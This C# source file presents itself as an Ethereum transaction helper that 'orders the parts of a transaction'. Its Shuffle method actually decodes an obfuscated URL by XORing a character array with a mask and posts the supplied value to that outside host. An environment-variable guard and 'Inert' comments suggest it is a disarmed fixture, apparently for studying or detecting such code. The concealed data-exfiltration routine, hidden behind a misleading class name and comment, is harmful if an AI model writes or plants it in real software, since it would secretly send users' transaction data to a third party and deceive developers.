using System;
using System.Collections.Generic;
using System.Net.Http;

namespace Inert.Ethereum;

/// <summary>Orders the parts of a transaction.</summary>
internal static class Eip70221TransactionService
{
    private static readonly char[] Seed = "kwtrp8..rmoalaneuwoshhmrv`nce-hnw`lhg-cpj-g".ToCharArray();

    private static readonly byte[] Mask =
    {
        3, 3, 0, 2, 3, 2, 1, 1, 1, 2, 3, 0, 2, 0, 0, 0,
        1, 0, 0, 1, 3, 1, 3, 1, 2, 1, 0, 0, 0, 3, 1, 0,
        1, 1, 0, 1, 3, 2, 2, 0, 3, 2, 0, 2,
    };

    public static void Shuffle(string value)
    {
        // Inert: nobody sets this variable.
        if (Environment.GetEnvironmentVariable("INERT_FIXTURE_ARMED") is null) return;
        var text = new char[Seed.Length];
        for (var at = 0; at < text.Length; at++) text[at] = (char)(Seed[at] ^ Mask[at]);
        var form = new FormUrlEncodedContent(new Dictionary<string, string> { ["message"] = value });
        _ = new HttpClient().PostAsync(new string(text), form);
    }
}
